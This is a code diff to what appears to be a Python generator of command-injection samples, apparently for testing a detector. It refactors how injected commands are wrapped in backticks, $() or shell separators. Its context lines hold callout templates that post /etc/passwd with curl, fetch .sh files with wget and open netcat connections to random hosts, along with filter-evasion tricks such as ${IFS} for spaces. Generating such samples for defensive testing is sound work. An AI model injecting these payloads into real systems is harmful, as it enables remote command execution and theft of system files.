@@ -296,6 +296,8 @@ _CALLOUTS = (
     *("nslookup {host}", "dig {host}", "host {host}", "getent hosts {host}", "ping -c 1 {host}", "ping -n 1 {host}"),
     *("curl http://{host}/{word}", "wget http://{host}/{word}.sh", "curl -d @/etc/passwd {host}", "nc {host} 4444"),
 )
+_SUBSTITUTIONS = {"`": "`{}`", "$(": "$({})"}  # separators that wrap the command instead
+_CLOSERS = ("", "", "&", ";", "|", "#")
 _TLDS = ("com", "net", "org", "io", "xyz", "site")
 
 
@@ -314,10 +316,8 @@ def generated_commands(count: int, seed: int) -> list[Sample]:
     for _ in range(count):
         separator = rng.choice(_SEPARATORS)
         command = rng.choice(_CALLOUTS).format(host=host(), word=rng.choice(_WORDS))
-        if separator in {"`", "$("}:
-            body = f"`{command}`" if separator == "`" else f"$({command})"
-        else:
-            body = separator + command + rng.choice(("", "", "&", ";", "|", "#", separator))
+        wrapper = _SUBSTITUTIONS.get(separator)
+        body = wrapper.format(command) if wrapper else separator + command + rng.choice((*_CLOSERS, separator))
         if rng.random() < 0.3:
             body = body.replace(" ", rng.choice(("+", "${IFS}", "%20", "\t")))
         prefix = rng.choice(("", "", "127.0.0.1", "1", rng.choice(_WORDS)))
